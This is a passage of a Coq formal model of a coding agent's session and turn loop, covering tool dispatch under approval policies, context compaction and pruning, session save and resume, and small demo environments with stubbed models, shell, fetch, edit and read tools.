(** ** Session and agent loop (agent/session.ts, agent/agent.ts, main.ts) *)

Module Agent.
Import ToolBase Data Eff Hooks Approval Registry Context.

Section WithEnv.
Context `{Env}.

(** The fields of [Config] that the core reads.  [maxTurns] is the number
    found in the configuration file (loader.ts passes [max_turns] on without
    a check), so it may be fractional or negative; it is taken to be finite
    and is given by its exact value. *)
Record Config := {
  cfgCwd : string;
  approval : ApprovalPolicy;
  maxTurns : Q;
  contextWindow : N;
  cfgModelName : string;
  autoplan : bool;
  hooksEnabled : bool;
  cfgHooks : list HookConfig;
  cfgAllowedTools : option (list string)
}.

Record Session := {
  config : Config;
  toolRegistry : ToolRegistry;
  contextManager : ContextManager;
  approvalManager : ApprovalManager Callback;
  loopDetector : LoopDetector.LoopDetector;
  hookSystem : HookSystem;
  sessionId : string;
  createdAt : nat;
  updatedAt : nat;
  turnCount : nat
}.

(** [new Session(config)] followed by [initialize()].  The default registry,
    the session id, the system prompt and the time come from outside; the
    approval manager is built without a confirmation callback. *)
Definition newSession (cfg : Config) (defaultRegistry : ToolRegistry)
    (id prompt : string) (now : nat) : Session :=
  {| config := cfg;
     toolRegistry := defaultRegistry;
     contextManager := newContextManager prompt (cfgModelName cfg);
     approvalManager := {| approvalPolicy := approval cfg; amCwd := cfgCwd cfg;
                           confirmationCallback := None |};
     loopDetector := LoopDetector.newLoopDetector;
     hookSystem := newHookSystem (cfgCwd cfg) (hooksEnabled cfg) (cfgHooks cfg);
     sessionId := id;
     createdAt := now;
     updatedAt := now;
     turnCount := 0 |}.

(** [new Agent(config, confirmationCallback)] *)
Definition newAgent (cfg : Config) (defaultRegistry : ToolRegistry)
    (id prompt : string) (now : nat) (callback : option Callback) : Session :=
  let s := newSession cfg defaultRegistry id prompt now in
  match callback with
  | Some cb =>
      {| config := config s; toolRegistry := toolRegistry s;
         contextManager := contextManager s;
         approvalManager := {| approvalPolicy := approvalPolicy (approvalManager s);
                               amCwd := amCwd (approvalManager s);
                               confirmationCallback := Some cb |};
         loopDetector := loopDetector s; hookSystem := hookSystem s;
         sessionId := sessionId s; createdAt := createdAt s;
         updatedAt := updatedAt s; turnCount := turnCount s |}
  | None => s
  end.

Definition setContextManager (cm : ContextManager) (s : Session) : Session :=
  {| config := config s; toolRegistry := toolRegistry s; contextManager := cm;
     approvalManager := approvalManager s; loopDetector := loopDetector s;
     hookSystem := hookSystem s; sessionId := sessionId s;
     createdAt := createdAt s; updatedAt := updatedAt s; turnCount := turnCount s |}.

Definition setLoopDetector (ld : LoopDetector.LoopDetector) (s : Session) : Session :=
  {| config := config s; toolRegistry := toolRegistry s;
     contextManager := contextManager s;
     approvalManager := approvalManager s; loopDetector := ld;
     hookSystem := hookSystem s; sessionId := sessionId s;
     createdAt := createdAt s; updatedAt := updatedAt s; turnCount := turnCount s |}.

Definition incrementTurn (now : nat) (s : Session) : Session :=
  {| config := config s; toolRegistry := toolRegistry s;
     contextManager := contextManager s;
     approvalManager := approvalManager s; loopDetector := loopDetector s;
     hookSystem := hookSystem s; sessionId := sessionId s;
     createdAt := createdAt s; updatedAt := now; turnCount := turnCount s + 1 |}.

(** The state of a run: the session, the outside world and the events
    yielded so far to the consumer of the generator. *)
Record AgentState := {
  session : Session;
  world : World;
  yielded : list AgentEvent
}.

Definition inWorld {A} (m : M World A) : M AgentState A :=
  zoom world (fun w st => {| session := session st; world := w; yielded := yielded st |}) m.

Definition yield (e : AgentEvent) : M AgentState unit :=
  modify (fun st => {| session := session st; world := world st;
                       yielded := (yielded st ++ [e])%list |}).

Definition updSession (f : Session -> Session) : M AgentState unit :=
  modify (fun st => {| session := f (session st); world := world st;
                       yielded := yielded st |}).

(** Apply a context-manager operation that may throw. *)
Definition onContext (f : ContextManager -> Js.Exc ContextManager) : M AgentState unit :=
  let* cm := gets (fun st => contextManager (session st)) in
  let* cm' := liftExc (f cm) in
  updSession (setContextManager cm').

Definition now : M AgentState nat := gets (fun st => clock (ext (world st))).

Definition recordUsage (usage : option TokenUsage) : M AgentState unit :=
  match usage with
  | Some u => onContext (fun cm => inr (addUsageCM u (setLatestUsage u cm)))
  | None => ret tt
  end.

Definition prune : M AgentState unit :=
  let* t := now in
  onContext (fun cm => Eff.bindExc (pruneToolOutputs t cm) (fun r => inr (fst r))).

(** Lines 82-91 of agent.ts: compaction before the model is called. *)
Definition compactIfNeeded : M AgentState unit :=
  let* s := gets session in
  if needsCompression (contextWindow (config s)) (contextManager s) then
    let* r := inWorld (compress (contextManager s)) in
    match fst r with
    | Some summary =>
        if Js.truthyStr summary then
          run onContext (replaceWithSummary summary) in
          recordUsage (snd r)
        else ret tt
    | None => ret tt
    end
  else ret tt.

Record PendingCall := {
  call_id : string;
  pcName : string;
  pcArguments : Params
}.

(** What the loop over the reply accumulates. *)
Record Reply := {
  responseText : string;
  toolCallsAcc : list PendingCall;
  usageAcc : option TokenUsage
}.

Definition onEvent (acc : Reply) (event : StreamEvent) : M AgentState Reply :=
  match evType event with
  | TEXT_DELTA =>
      if Js.truthy (textDelta event) then
        let c := Js.nullish (textDelta event) "" in
        run yield (textDeltaEv c) in
        ret {| responseText := (responseText acc ++ c)%string;
               toolCallsAcc := toolCallsAcc acc; usageAcc := usageAcc acc |}
      else ret acc
  | TOOL_CALL_COMPLETE =>
      match toolCall event with
      | Some tc =>
          ret {| responseText := responseText acc;
                 toolCallsAcc :=
                   (toolCallsAcc acc
                    ++ [ {| call_id := callId tc;
                            pcName := Js.nullish (tcName tc) "";
                            pcArguments := Js.nullish (tcArguments tc) ∅ |} ])%list;
                 usageAcc := usageAcc acc |}
      | None => ret acc
      end
  | ERROR =>
      run yield (agentError (Js.nullish (evError event) "Unknown error occurred.")) in
      ret acc
  | MESSAGE_COMPLETE =>
      ret {| responseText := responseText acc; toolCallsAcc := toolCallsAcc acc;
             usageAcc := usage event |}
  | _ => ret acc
  end.

Fixpoint consume (evs : list StreamEvent) (acc : Reply) : M AgentState Reply :=
  match evs with
  | [] => ret acc
  | event :: rest => let* acc' := onEvent acc event in consume rest acc'
  end.

(** Lines 97-115: the streamed request and its consumption. *)
Definition askModel : M AgentState Reply :=
  let* s := gets session in
  let toolSchemas := getSchemas (toolRegistry s) in
  let* stream :=
    inWorld (fun w =>
      let (st, e') :=
        chatCompletion (getMessages (contextManager s))
          (match toolSchemas with [] => None | _ => Some toolSchemas end)
          true (ext w) in
      (inr st, {| ext := e'; trace := trace w |})) in
  let* reply := consume (events stream)
                  {| responseText := ""; toolCallsAcc := []; usageAcc := None |} in
  match thrown stream with
  | Some e => throw e
  | None => ret reply
  end.

Definition toRef (call : PendingCall) : ToolCallRef :=
  {| tcrId := call_id call;
     tcrType := "function";
     function := Some {| fnName := Some (pcName call);
                         fnArguments := Some (JSON_stringify (Js.VObj (pcArguments call))) |} |}.

(** Lines 147-166: one tool call of the batch; its result message. *)
Definition dispatch (toolCall : PendingCall) : M AgentState (string * string) :=
  run yield (toolCallStart (call_id toolCall) (pcName toolCall) (pcArguments toolCall)) in
  run updSession (fun s =>
        setLoopDetector
          (LoopDetector.recordAction "tool_call"
             {| LoopDetector.toolName := Some (pcName toolCall);
                LoopDetector.args := Some (pcArguments toolCall);
                LoopDetector.text := None |}
             (loopDetector s)) s) in
  let* s := gets session in
  let* result :=
    inWorld (invoke (toolRegistry s) (pcName toolCall) (pcArguments toolCall)
               (cfgCwd (config s)) (hookSystem s) (Some (approvalManager s))) in
  run yield (toolCallComplete (call_id toolCall) (pcName toolCall) result) in
  ret (call_id toolCall, resultText result).

Fixpoint dispatchAll (calls : list PendingCall) : M AgentState (list (string * string)) :=
  match calls with
  | [] => ret []
  | c :: rest =>
      let* r := dispatch c in
      let* rs := dispatchAll rest in
      ret (r :: rs)
  end.

(** One iteration of the loop body, after the turn counter is incremented.
    The result is [true] when the body returns from the generator (no tool
    call was requested). *)
Definition turnBody : M AgentState bool :=
  run compactIfNeeded in
  let* reply := askModel in
  run onContext
        (addAssistantMessage
           (if Js.truthyStr (responseText reply) then Some (responseText reply) else None)
           (match toolCallsAcc reply with
            | [] => None
            | calls => Some (List.map toRef calls)
            end)) in
  run (if Js.truthyStr (responseText reply) then
         run yield (textComplete (responseText reply)) in
         updSession (fun s =>
           setLoopDetector
             (LoopDetector.recordAction "response"
                {| LoopDetector.toolName := None; LoopDetector.args := None;
                   LoopDetector.text := Some (responseText reply) |}
                (loopDetector s)) s)
       else ret tt) in
  match toolCallsAcc reply with
  | [] =>
      run recordUsage (usageAcc reply) in
      run prune in
      ret true
  | calls =>
      let* toolResults := dispatchAll calls in
      run forEach toolResults
            (fun r => onContext (addToolResult (Some (fst r)) (Some (snd r)))) in
      let* s := gets session in
      run match LoopDetector.checkForLoop (loopDetector s) with
          | Some loopError =>
              if Js.truthyStr loopError
              then onContext (addUserMessage (Some (createLoopBreakerPrompt loopError)))
              else ret tt
          | None => ret tt
          end in
      run recordUsage (usageAcc reply) in
      run prune in
      ret false
  end.

Definition turn : M AgentState bool :=
  let* t := now in
  run updSession (incrementTurn t) in
  turnBody.

(** The number of values 0, 1, 2, ... that the loop variable takes below
    [maxTurns]: none when [maxTurns] is zero or negative, and [maxTurns]
    rounded up otherwise. *)
Definition iterations (maxTurns : Q) : nat := Z.to_nat (Qceiling maxTurns).

(** [String(maxTurns)] in the template literal of the last event. *)
Definition showNumber (n : Q) : string :=
  let r := Qred n in
  if ((Qden r =? 1)%positive && (Z.abs (Qnum r) <? 10 ^ 21)%Z)%bool
  then Js.ofZ (Qnum r)
  else Number_toString n.

(** [for (let turn = 0; turn < maxTurns; turn += 1) { ... }] with [remaining]
    iterations left; [true] when the body returned. *)
Fixpoint loop (remaining : nat) : M AgentState bool :=
  match remaining with
  | O => ret false
  | S remaining' =>
      let* returned := turn in
      if returned then ret true else loop remaining'
  end.

Definition agenticLoop : M AgentState unit :=
  let* maxTurns := gets (fun st => maxTurns (config (session st))) in
  let* returned := loop (iterations maxTurns) in
  if returned then ret tt
  else yield (agentError ("Maximum turns (" ++ showNumber maxTurns ++ ") reached")).

(** *** Vocabulary for reasoning about a run *)

(** The parts of a session that a run never assigns. *)
Definition static (s : Session)
    : Config * ToolRegistry * HookSystem * ApprovalManager Callback :=
  (config s, toolRegistry s, hookSystem s, approvalManager s).

(** A computation that, however it ends, leaves the turn counter and the
    static parts of the session as they were. *)
Definition keeps {A} (m : M AgentState A) : Prop :=
  forall st,
    turnCount (session (snd (m st))) = turnCount (session st)
    /\ static (session (snd (m st))) = static (session st).

(** Every stored message carries its token count. *)
Definition cached (st : AgentState) : Prop :=
  Forall (fun m => is_Some (tokenCount m)) (messages (contextManager (session st))).

(** A computation that, started with cached token counts in a state
    satisfying [P], returns without throwing a value satisfying [Q], and
    leaves the counts cached and [P] true. *)
Definition completes {A} (P : AgentState -> Prop) (m : M AgentState A)
    (Q : A -> Prop) : Prop :=
  forall st, cached st -> P st ->
    exists a st', m st = (inr a, st') /\ cached st' /\ P st' /\ Q a.

(** Whenever the computation returns, its value satisfies [Q]. *)
Definition yields {A} (m : M AgentState A) (Q : A -> Prop) : Prop :=
  forall st a st', m st = (inr a, st') -> Q a.

(** The static parts of the session are those of [s0]. *)
Definition staticOf (s0 : Session) (st : AgentState) : Prop :=
  static (session st) = static s0.

(** The model answers every streamed request without a stream failure and
    with at least one completed tool call. *)
Definition alwaysCallsTool : Prop :=
  forall msgs schemas e,
    let reply := fst (chatCompletion msgs schemas true e) in
    thrown reply = None
    /\ exists event call,
         In event (events reply)
         /\ evType event = TOOL_CALL_COMPLETE /\ toolCall event = Some call.

(** The registry of session [s] returns, without an exception, on the call
    [toolCall]. *)
Definition returnsOn (s : Session) (toolCall : PendingCall) : Prop :=
  forall w,
    exists r w',
      invoke (toolRegistry s) (pcName toolCall) (pcArguments toolCall)
        (cfgCwd (config s)) (hookSystem s) (Some (approvalManager s)) w = (inr r, w').

(** No exception leaves the registry of session [s] on a tool call that the
    model asks for. *)
Definition requestedCallsReturn (s : Session) : Prop :=
  forall msgs schemas e event call,
    In event (events (fst (chatCompletion msgs schemas true e))) ->
    evType event = TOOL_CALL_COMPLETE ->
    toolCall event = Some call ->
    returnsOn s {| call_id := callId call;
                   pcName := Js.nullish (tcName call) "";
                   pcArguments := Js.nullish (tcArguments call) ∅ |}.

(** *** Snapshots (main.ts, /save and /resume) *)

Record SessionSnapshot := {
  snapSessionId : string;
  snapCreatedAt : nat;
  snapUpdatedAt : nat;
  snapTurnCount : nat;
  snapMessages : list Payload;
  snapTotalUsage : TokenUsage
}.

Definition snapshotOf (s : Session) : SessionSnapshot :=
  {| snapSessionId := sessionId s;
     snapCreatedAt := createdAt s;
     snapUpdatedAt := updatedAt s;
     snapTurnCount := turnCount s;
     snapMessages := getMessages (contextManager s);
     snapTotalUsage := totalUsage (contextManager s) |}.

#[local] Open Scope exc_scope.

(** The replay loop of /resume. *)
Definition replayOne (msg : Payload) (cm : ContextManager) : Js.Exc ContextManager :=
  if String.eqb (pRole msg) "system" then inr cm
  else if String.eqb (pRole msg) "user" then addUserMessage (pContent msg) cm
  else if String.eqb (pRole msg) "assistant" then
    addAssistantMessage (pContent msg) (tool_calls msg) cm
  else if String.eqb (pRole msg) "tool" then
    addToolResult (tool_call_id msg) (pContent msg) cm
  else inr cm.

Fixpoint replay (msgs : list Payload) (cm : ContextManager) : Js.Exc ContextManager :=
  match msgs with
  | [] => inr cm
  | msg :: rest => let* cm' := replayOne msg cm in replay rest cm'
  end.

(** /resume on a freshly initialised session. *)
Definition resume (snapshot : SessionSnapshot) (fresh : Session) : Js.Exc Session :=
  let cm0 := {| systemPrompt := systemPrompt (contextManager fresh);
                modelName := modelName (contextManager fresh);
                messages := messages (contextManager fresh);
                latestUsage := latestUsage (contextManager fresh);
                totalUsage := snapTotalUsage snapshot |} in
  let* cm := replay (snapMessages snapshot) cm0 in
  inr {| config := config fresh; toolRegistry := toolRegistry fresh;
         contextManager := cm;
         approvalManager := approvalManager fresh;
         loopDetector := loopDetector fresh; hookSystem := hookSystem fresh;
         sessionId := snapSessionId snapshot;
         createdAt := snapCreatedAt snapshot;
         updatedAt := snapUpdatedAt snapshot;
         turnCount := snapTurnCount snapshot |}.

(** A call of one of the three append methods of the context manager. *)
Inductive Append :=
| AppendUser (content : string)
| AppendAssistant (content : option string) (toolCalls : option (list ToolCallRef))
| AppendTool (toolCallId content : string).

Definition append (op : Append) (cm : ContextManager) : Js.Exc ContextManager :=
  match op with
  | AppendUser content => addUserMessage (Some content) cm
  | AppendAssistant content toolCalls => addAssistantMessage content toolCalls cm
  | AppendTool toolCallId content => addToolResult (Some toolCallId) (Some content) cm
  end.

Fixpoint appendAll (ops : list Append) (cm : ContextManager) : Js.Exc ContextManager :=
  match ops with
  | [] => inr cm
  | op :: rest => let* cm' := append op cm in appendAll rest cm'
  end.

(** The call passes no empty text where [getMessages] would omit the
    field. *)
Definition hasText (op : Append) : bool :=
  match op with
  | AppendUser content => Js.truthyStr content
  | AppendAssistant _ _ => true
  | AppendTool toolCallId content => Js.truthyStr toolCallId && Js.truthyStr content
  end.

(** /resume as a whole (main.ts, lines 262-285): a new session is built from
    the configuration and initialised, the snapshot is loaded into it, and
    it replaces the session of the agent. *)
Definition resumeCommand (cfg : Config) (defaultRegistry : ToolRegistry)
    (id prompt : string) (now : nat) (snapshot : SessionSnapshot) : Js.Exc Session :=
  resume snapshot (newSession cfg defaultRegistry id prompt now).

(** *** The run of one user message (agent.ts, lines 19-73) *)

#[local] Close Scope exc_scope.

Definition planningPrompt : string :=
  "You are a planning assistant for an autonomous coding agent. Provide a brief, actionable plan (3-7 bullets) without chain-of-thought or hidden reasoning.".

Definition planningMessages (message : string) : list Payload :=
  [ {| pRole := "system"; tool_call_id := None; tool_calls := None;
       pContent := Some planningPrompt |};
    {| pRole := "user"; tool_call_id := None; tool_calls := None;
       pContent := Some message |} ].

(** The loop of [generatePlan] over the events of the reply: [None] when it
    returns null at an error event, the text collected otherwise. *)
Fixpoint planText (evs : list StreamEvent) (plan : string) : option string :=
  match evs with
  | [] => Some plan
  | event :: rest =>
      match evType event with
      | ERROR => None
      | MESSAGE_COMPLETE =>
          planText rest
            (if Js.truthy (textDelta event)
             then (plan ++ Js.nullish (textDelta event) "")%string else plan)
      | _ => planText rest plan
      end
  end.

(** [generatePlan(message)].  The template of the source escapes the
    backslash: the plan starts with the seven characters [Plan:\n], a
    backslash and an [n], not a line break. *)
Definition generatePlan (message : string) : M AgentState (option string) :=
  let* stream :=
    inWorld (fun w =>
      let (st, e') := chatCompletion (planningMessages message) None false (ext w) in
      (inr st, {| ext := e'; trace := trace w |})) in
  match planText (events stream) "" with
  | None => ret None
  | Some plan =>
      match thrown stream with
      | Some e => throw e
      | None =>
          if Js.truthyStr (Js.trim plan)
          then ret (Some ("Plan:\n" ++ Js.trim plan)%string)
          else ret None
      end
  end.

(** The content of the last text-complete event of a list of events. *)
Definition lastText (evs : list AgentEvent) : option string :=
  List.fold_left
    (fun final e => match e with textComplete content => Some content | _ => final end)
    evs None.

(** [run(message)]; the events of the agentic loop are passed on as they
    come, so they are the events yielded between the two readings of the
    event list. *)
(** Lines 24-30: the optional planning step. *)
Definition planStep (message : string) : M AgentState unit :=
  let* s := gets session in
  if autoplan (config s) then
    let* plan := generatePlan message in
    match plan with
    | Some p =>
        if Js.truthyStr p then
          run onContext (addAssistantMessage (Some p) None) in
          yield (textComplete p)
        else ret tt
    | None => ret tt
    end
  else ret tt.

Definition agentRun (message : string) : M AgentState unit :=
  let* s := gets session in
  run inWorld (triggerBeforeAgent (hookSystem s) message) in
  run yield (agentStart message) in
  run onContext (addUserMessage (Some message)) in
  run planStep message in
  let* before := gets yielded in
  run agenticLoop in
  let* after := gets yielded in
  let finalResponse := lastText (List.skipn (List.length before) after) in
  let* s' := gets session in
  run inWorld (triggerAfterAgent (hookSystem s') message finalResponse) in
  yield (agentEnd finalResponse).

(** An event of the kinds the loop and the planning step yield. *)
Definition innerEvent (e : AgentEvent) : Prop :=
  match e with
  | agentStart _ | agentEnd _ => False
  | _ => True
  end.

(** A computation that, however it ends, only appends to the events yielded
    and to the trace: events satisfying [Q], effects satisfying [P]. *)
Definition extendsBy {A} (P : Effect -> Prop) (Q : AgentEvent -> Prop)
    (m : M AgentState A) : Prop :=
  forall st, exists evs effs,
    yielded (snd (m st)) = (yielded st ++ evs)%list /\ Forall Q evs
    /\ trace (world (snd (m st))) = (trace (world st) ++ effs)%list /\ Forall P effs.

End WithEnv.
End Agent.

(** ** Concrete instances used in examples *)

Module ApprovalExamples.
Import Approval.

Definition resolveHere : string -> string := Path.resolve "/home/user/project".

Definition manager (p : ApprovalPolicy) : ApprovalManager unit :=
  {| approvalPolicy := p; amCwd := "/home/user/project";
     confirmationCallback := None |}.

Definition commandAction (c : string) (paths : list string) : ApprovalContext :=
  {| ctxToolName := "shell"; ctxParams := ∅; isMutating := true;
     ctxAffectedPaths := paths; ctxCommand := Some c;
     ctxIsDangerous := Some false |}.

(** A mutating invocation that carries paths but no command, as the file
    tools describe themselves. *)
Definition pathAction (paths : list string) : ApprovalContext :=
  {| ctxToolName := "make_dir"; ctxParams := ∅; isMutating := true;
     ctxAffectedPaths := paths; ctxCommand := None;
     ctxIsDangerous := Some false |}.

End ApprovalExamples.

Module Examples.
Import ToolBase Data Eff Hooks Approval Registry Context Agent.

(** A small world: the external state is a counter that also serves as the
    clock; the tokenizer counts characters and throws on [undefined]; the
    model answers every streamed request with one call of an unknown tool
    and every other request with a short summary. *)
Definition toolCallReply : Stream :=
  {| events :=
       [ {| evType := TOOL_CALL_COMPLETE; textDelta := None; evError := None;
            toolCall := Some {| callId := "call_1"; tcName := Some "no_such_tool";
                                tcArguments := Some ∅ |};
            usage := None |};
         {| evType := MESSAGE_COMPLETE; textDelta := None; evError := None;
            toolCall := None;
            usage := Some {| promptTokens := 10; completionTokens := 5;
                             totalTokens := 15; cachedTokens := 0 |} |} ];
     thrown := None |}.

Definition summaryReply : Stream :=
  {| events :=
       [ {| evType := MESSAGE_COMPLETE; textDelta := Some "Work so far: two files read.";
            evError := None; toolCall := None;
            usage := Some {| promptTokens := 900; completionTokens := 12;
                             totalTokens := 912; cachedTokens := 0 |} |} ];
     thrown := None |}.

(** The text of a number with one digit after the point, which is how the
    halves used below print. *)
Definition oneDecimal (n : Q) : string :=
  let tenths := Qfloor (n * 10) in
  ((if (tenths <? 0)%Z then "-" else "")
   ++ Js.ofZ (Z.abs tenths / 10) ++ "." ++ Js.ofZ (Z.abs tenths mod 10))%string.

Definition demoEnv : Env :=
  {| Ext := nat;
     procCwd := "/home/user/project";
     encode := fun _ text =>
       match text with
       | Some s => Some (N.of_nat (String.length s))
       | None => None
       end;
     clock := fun e => e;
     runHookCommand := fun _ _ e => S e;
     chatCompletion := fun _ _ streamed e =>
       (if streamed then toolCallReply else summaryReply, S e);
     mkdirSync := fun _ e => (None, S e);
     JSON_stringify := fun _ => "{}";
     Number_toString := oneDecimal;
     getCompressionPrompt := "Summarise the conversation.";
     createLoopBreakerPrompt := fun e => "Loop detected: " ++ e |}.

Definition worldAt (n : nat) (tr : list Effect) : @World demoEnv :=
  @Build_World demoEnv n tr.

Definition startWorld : @World demoEnv := worldAt 0 [].

Definition emptyRegistry `{Env} : ToolRegistry :=
  {| tools := ∅; mcpTools := ∅; allowedTools := None |}.

Definition makeDirRegistry `{Env} : ToolRegistry :=
  register MakeDirTool emptyRegistry.

(** The registry of a sub-agent restricted to two read-only tools, which
    still holds make_dir. *)
Definition readOnlyRegistry `{Env} : ToolRegistry :=
  {| tools := tools makeDirRegistry; mcpTools := ∅;
     allowedTools := Some ["read_file"; "grep"] |}.

Definition noHooks : HookSystem := newHookSystem "/home/user/project" true [].

Definition demoConfig (policy : ApprovalPolicy) (turns : nat) : Config :=
  {| cfgCwd := "/home/user/project"; approval := policy;
     maxTurns := inject_Z (Z.of_nat turns);
     contextWindow := 128000; cfgModelName := "gpt-4"; autoplan := false;
     hooksEnabled := true; cfgHooks := []; cfgAllowedTools := None |}.

(** A session whose last reported usage is above 80% of the window. *)
Definition busySession : @Session demoEnv :=
  let s := @newSession demoEnv (demoConfig ON_REQUEST 5) (@emptyRegistry demoEnv)
             "session-1" "You are an agent." 0 in
  setContextManager
    {| systemPrompt := "You are an agent."; modelName := "gpt-4";
       messages := [ plainMessage "user" "Read the two files." 19;
                     plainMessage "assistant" "Both files read." 16 ];
       latestUsage := {| promptTokens := 119000; completionTokens := 1000;
                         totalTokens := 120000; cachedTokens := 0 |};
       totalUsage := {| promptTokens := 119000; completionTokens := 1000;
                        totalTokens := 120000; cachedTokens := 0 |} |} s.

Definition busyState : @AgentState demoEnv :=
  {| session := busySession; world := startWorld; yielded := [] |}.

(** A fresh session limited to one turn, with no tool registered. *)
Definition oneTurnState : @AgentState demoEnv :=
  {| session := @newSession demoEnv (demoConfig ON_REQUEST 1) (@emptyRegistry demoEnv)
                  "session-1" "You are an agent." 0;
     world := startWorld;
     yielded := [] |}.

Definition toolMessage (id text : string) (tokens : N) : MessageItem :=
  {| role := "tool"; content := Some text; toolCallId := Some id;
     toolCalls := None; tokenCount := Some tokens; prunedAt := None |}.

(** Two exchanges; the older tool result lies beyond the protect threshold
    and weighs 30,000 tokens. *)
Definition pruneDemo : ContextManager :=
  {| systemPrompt := "You are an agent."; modelName := "gpt-4";
     messages := [ plainMessage "user" "List the directory." 19;
                   toolMessage "call_1" "a long listing" 30000;
                   plainMessage "user" "Now read the file." 18;
                   toolMessage "call_2" "a long file" 30000 ];
     latestUsage := zeroUsage; totalUsage := zeroUsage |}.

(** The same history once its older tool result has been cleared at time 5;
    the placeholder counts 33 tokens in the demo tokenizer. *)
Definition prunedDemo : ContextManager :=
  setMessages
    [ plainMessage "user" "List the directory." 19;
      clearedMsg 33 5 (toolMessage "call_1" "a long listing" 30000);
      plainMessage "user" "Now read the file." 18;
      toolMessage "call_2" "a long file" 30000 ]
    pruneDemo.

(** As above, but the older tool result weighs exactly 20,000 tokens and
    the newer one exactly 40,000. *)
Definition pruneBoundary : ContextManager :=
  {| systemPrompt := "You are an agent."; modelName := "gpt-4";
     messages := [ plainMessage "user" "List the directory." 19;
                   toolMessage "call_1" "a long listing" 20000;
                   plainMessage "user" "Now read the file." 18;
                   toolMessage "call_2" "a long file" 40000 ];
     latestUsage := zeroUsage; totalUsage := zeroUsage |}.

End Examples.

Module ShellExamples.
Import ToolBase Data Eff Hooks Approval Registry Shell Examples.

(** Every directory exists, and every child prints one word and exits
    with code 0. *)
Definition alwaysThere : string -> nat -> bool := fun _ _ => true.

Definition quietChild : string -> string -> Js.Value -> M nat Outcome :=
  fun _ _ _ e => (inr (Exited (Some 0%Z) "done" ""), S e).

Definition demoShell : @Tool demoEnv := @ShellTool demoEnv alwaysThere quietChild.

Definition shellRegistry : @ToolRegistry demoEnv :=
  @register demoEnv demoShell (@emptyRegistry demoEnv).

(** A manager whose human approves everything. *)
Definition approving (p : ApprovalPolicy) : ApprovalManager (@Callback demoEnv) :=
  {| approvalPolicy := p; amCwd := "/home/user/project";
     confirmationCallback := Some (fun _ e => (inr true, S e)) |}.

End ShellExamples.

Module LoopExamples.
Import ToolBase Data Eff Hooks Approval Registry Shell Context Agent Examples ShellExamples.

(** A reply that asks for one run of the shell tool. *)
Definition shellCallReply (command : Js.Value) : Stream :=
  {| events :=
       [ {| evType := TOOL_CALL_COMPLETE; textDelta := None; evError := None;
            toolCall := Some {| callId := "call_1"; tcName := Some "shell";
                                tcArguments := Some {[ "command" := command ]} |};
            usage := None |};
         {| evType := MESSAGE_COMPLETE; textDelta := None; evError := None;
            toolCall := None;
            usage := Some {| promptTokens := 10; completionTokens := 5;
                             totalTokens := 15; cachedTokens := 0 |} |} ];
     thrown := None |}.

(** The demo world with another model: it answers every streamed request
    by asking for the shell tool, with the given value as [command]. *)
Definition shellEnv (command : Js.Value) : Env :=
  {| Ext := nat;
     procCwd := "/home/user/project";
     encode := fun _ text =>
       match text with
       | Some s => Some (N.of_nat (String.length s))
       | None => None
       end;
     clock := fun e => e;
     runHookCommand := fun _ _ e => S e;
     chatCompletion := fun _ _ streamed e =>
       (if streamed then shellCallReply command else summaryReply, S e);
     mkdirSync := fun _ e => (None, S e);
     JSON_stringify := fun _ => "{}";
     Number_toString := oneDecimal;
     getCompressionPrompt := "Summarise the conversation.";
     createLoopBreakerPrompt := fun e => "Loop detected: " ++ e |}.

(** A configuration with the given limit, as read from the file. *)
Definition limitedTo (limit : Q) : Config :=
  {| cfgCwd := "/home/user/project"; approval := ON_REQUEST; maxTurns := limit;
     contextWindow := 128000; cfgModelName := "gpt-4"; autoplan := false;
     hooksEnabled := true; cfgHooks := []; cfgAllowedTools := None |}.

(** A fresh session that holds the shell tool, in the world of [shellEnv]. *)
Definition shellState (command : Js.Value) (limit : Q) : @AgentState (shellEnv command) :=
  {| session :=
       @newSession (shellEnv command) (limitedTo limit)
         (@register (shellEnv command)
            (@ShellTool (shellEnv command) alwaysThere quietChild)
            (@emptyRegistry (shellEnv command)))
         "session-1" "You are an agent." 0;
     world := @Build_World (shellEnv command) 0 [];
     yielded := [] |}.

(** A fresh session of the demo world, where the model calls a tool that is
    not registered, with the limit 1.5. *)
Definition halfTurnState : @AgentState demoEnv :=
  {| session := @newSession demoEnv (limitedTo (3 # 2)) (@emptyRegistry demoEnv)
                  "session-1" "You are an agent." 0;
     world := startWorld;
     yielded := [] |}.

End LoopExamples.

Module EditExamples.
Import ToolBase Data Eff Registry Edit Examples.

Definition makefile : string := "/home/user/project/Makefile".

(** A file system that holds one file, with the given content, and
    accepts every write. *)
Definition onlyMakefile : string -> nat -> bool :=
  fun target _ => String.eqb target makefile.

Definition reading (content : string) : string -> M nat string :=
  fun _ e => (inr content, e).

Definition writing : string -> string -> M nat unit :=
  fun _ _ e => (inr tt, S e).

Definition editing (oldString newString : string) (all : bool) : EditParams :=
  {| path := "Makefile"; old_string := Some oldString; new_string := newString;
     replace_all := Some all |}.

Definition demoEdit (content : string) (params : EditParams) : M nat ToolResult :=
  @execute demoEnv onlyMakefile (reading content) writing params "/home/user/project".

End EditExamples.

Module WebFetchExamples.
Import ToolBase Data Eff Hooks Approval Registry WebFetch Examples.

(** A network on which every request gets the same short page. *)
Definition page : M nat string := fun e => (inr "<html>hello</html>", S e).

Definition steadyNet : string -> Js.Value -> M nat (Response nat) :=
  fun _ _ e => (inr {| ok := true; status := 200; statusText := "OK"; text := page |}, S e).

Definition demoFetch : @Tool demoEnv := @WebFetchTool demoEnv steadyNet.

Definition fetchRegistry : @ToolRegistry demoEnv :=
  @register demoEnv demoFetch (@emptyRegistry demoEnv).

(** A manager whose human declines everything. *)
Definition declining (p : ApprovalPolicy) : ApprovalManager (@Callback demoEnv) :=
  {| approvalPolicy := p; amCwd := "/home/user/project";
     confirmationCallback := Some (fun _ e => (inr false, S e)) |}.

End WebFetchExamples.

Module ReadFileExamples.
Import ToolBase Data Eff Registry ReadFile Examples.

(** A file system in which every path is a text file of four lines. *)
Definition fourLines : string := "alpha" ++ Js.nl ++ "beta" ++ Js.nl ++ "gamma" ++ Js.nl ++ "delta".

Definition allThere : string -> nat -> bool := fun _ _ => true.

Definition smallFile : string -> M nat Stat :=
  fun _ e => (inr {| isFile := true; size := 22 |}, e).

Definition bytesOf (content : string) : string -> M nat string :=
  fun _ e => (inr content, e).

Definition textOf (content : string) : string -> string -> M nat string :=
  fun _ _ e => (inr content, S e).

Definition demoRead (content : string) (params : ReadParams) : M nat ToolResult :=
  @execute demoEnv "gpt-4" allThere smallFile (bytesOf content) (textOf content) params
    "/home/user/project".

End ReadFileExamples.

(** * Properties *)

(** ** Approval manager *)

Section ApprovalFacts.
Import Approval.
Context {Callback : Type}.
Variable resolve : string -> string.
